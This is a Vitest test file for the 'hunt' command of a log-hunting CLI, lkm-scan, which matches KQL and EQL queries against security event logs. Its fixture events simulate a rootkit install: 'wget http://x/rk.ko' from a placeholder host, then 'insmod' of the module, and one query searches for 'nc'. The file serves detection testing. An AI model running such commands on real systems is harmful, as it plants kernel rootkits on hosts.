import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { PassThrough } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { run } from '../../src/cli.js';
import type { InterruptSignal } from '../../src/commands/interrupt.js';
import { jsonLines, runCli, runInProcess } from './run.js';

const tmp = mkdtempSync(join(tmpdir(), 'lkm-scan-hunt-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const LINES = [
  '{"@timestamp":"2024-05-01T10:00:00Z","event":{"category":"process"},"host":{"id":"h1","name":"web1"},"user":{"name":"root"},"process":{"name":"wget","command_line":"wget http://x/rk.ko"}}',
  '{"@timestamp":"2024-05-01T10:00:05Z","event":{"category":"file"},"host":{"id":"h1","name":"web1"},"file":{"path":"/lib/modules/rk.ko","extension":"ko"}}',
  '{"@timestamp":"2024-05-01T10:00:09Z","event":{"category":"process"},"host":{"id":"h1","name":"web1"},"user":{"name":"root"},"process":{"name":"insmod","command_line":"insmod /lib/modules/rk.ko"}}',
  '{"@timestamp":"2024-05-02T08:00:00Z","event":{"category":"process"},"host":{"id":"h2","name":"db1"},"user":{"name":"alice"},"process":{"name":"Insmod"}}',
];
const events = join(tmp, 'events.ndjson');
writeFileSync(events, LINES.join('\n') + '\n');

describe('lkm-scan hunt', () => {
  it('prints each matching event as the line it was read from, and exits 0', async () => {
    const r = await runInProcess(['hunt', '--kql', 'process.name:insmod or user.name:alice', events]);
    expect(r.stdout).toBe(`${LINES[2]}\n${LINES[3]}\n`);
    expect(r.code).toBe(0);
  });

  it("matches with the scan's semantics: KQL on a keyword is case-sensitive, EQL ':' is not", async () => {
    expect((await runInProcess(['hunt', '--kql', 'process.name:insmod', events])).stdout.split('\n').filter(Boolean)).toHaveLength(1);
    expect((await runInProcess(['hunt', '--eql', 'process where process.name : "insmod"', events])).stdout.split('\n').filter(Boolean)).toHaveLength(2);
  });

  it('exits 1 when nothing matches', async () => {
    const r = await runInProcess(['hunt', '--kql', 'process.name:nc', events]);
    expect([r.code, r.stdout]).toEqual([1, '']);
  });

  it('prints one short line per match with --format text, and the count on stderr', async () => {
    const r = await runInProcess(['hunt', '--format', 'text', '--kql', 'process.name:insmod', events]);
    expect(r.stdout).toBe(`${events}:3  2024-05-01T10:00:09.000Z  web1  root  insmod  insmod /lib/modules/rk.ko\n`);
    expect(r.stderr).toBe('lkm-scan hunt: 1 match\n');
  });

  it('prints every event of a sequence, numbered by match, and counts sequences with --count', async () => {
    const query = 'sequence by host.id with maxspan=1m [process where process.name == "wget"] [file where file.extension == "ko"] [process where process.name == "insmod"]';
    const r = await runInProcess(['hunt', '--eql', query, events]);
    expect(jsonLines(r.stdout).map((l) => [l.sequence, l.event, l.location.line, l.document.host.id])).toEqual([
      [1, 1, 1, 'h1'],
      [1, 2, 2, 'h1'],
      [1, 3, 3, 'h1'],
    ]);
    const counted = await runInProcess(['hunt', '--count', '--eql', query, events]);
    expect([counted.code, counted.stdout]).toEqual([0, '1\n']);
  });

  it('reads gzip, stdin and folders, and honours --since/--until', async () => {
    const gz = join(tmp, 'events.ndjson.gz');
    writeFileSync(gz, gzipSync(LINES.join('\n')));
    expect((await runInProcess(['hunt', '--count', '--kql', 'event.category:process', gz])).stdout).toBe('3\n');
    expect((await runInProcess(['hunt', '--count', '--kql', 'event.category:process', '-'], { stdin: LINES.join('\n') })).stdout).toBe('3\n');
    expect((await runInProcess(['hunt', '--count', '--since', '2024-05-02', '--kql', 'event.category:process', events])).stdout).toBe('1\n');
  });

  it('shows a query error with a caret under it, and exits 2', async () => {
    const r = await runInProcess(['hunt', '--kql', 'process.name:(insmod', events]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('error: Expected ")", AND, OR but end of input found.\n --> --kql:1:21\n  |\n1 | process.name:(insmod\n  |                     ^');
    const eql = await runInProcess(['hunt', '--eql', 'process where process.name = "x"', events]);
    expect(eql.code).toBe(2);
    expect(eql.stderr).toMatch(/--> --eql:1:\d+/);
  });

  it('exits 2 when an input could not be read, even with matches', async () => {
    const r = await runInProcess(['hunt', '--kql', 'process.name:insmod', events, join(tmp, 'missing.ndjson')]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe(`${LINES[2]}\n`);
  });

  it('needs exactly one query, and prints events, not sarif', async () => {
    expect((await runInProcess(['hunt', events])).code).toBe(2);
    expect((await runInProcess(['hunt', '--kql', 'a:1', '--eql', 'any where true', events])).code).toBe(2);
    expect((await runInProcess(['--format', 'sarif', 'hunt', '--kql', 'a:1', events])).code).toBe(2);
  });

  it('stops on an interrupt while reading a live stream, with what matched written, and exits 130', async () => {
    let stop: ((s: InterruptSignal) => void) | undefined;
    const stdin = new PassThrough();
    const stdout = new PassThrough();
    let out = '';
    stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    const hunting = run(['hunt', '--kql', 'process.name:insmod', '-'], {
      stdin,
      stdout,
      stderr: new PassThrough(),
      env: { NO_COLOR: '', FORCE_COLOR: '0' },
      interrupts: { listen: (s) => ((stop = s), () => (stop = undefined)) },
    });
    stdin.write(`${LINES[2]}\n`);
    while (!out.includes('\n')) await new Promise((r) => setTimeout(r, 5));
    stop?.('SIGINT');
    expect(await hunting).toBe(130);
    expect(out).toBe(`${LINES[2]}\n`);
    expect(stop).toBeUndefined();
  });

  it('through the binary: a pipe of matches, grep-like exit status', async () => {
    const r = await runCli(['hunt', '--kql', 'user.name:root', events]);
    expect(r.code).toBe(0);
    expect(jsonLines(r.stdout).map((e) => e.process.name)).toEqual(['wget', 'insmod']);
  });
});
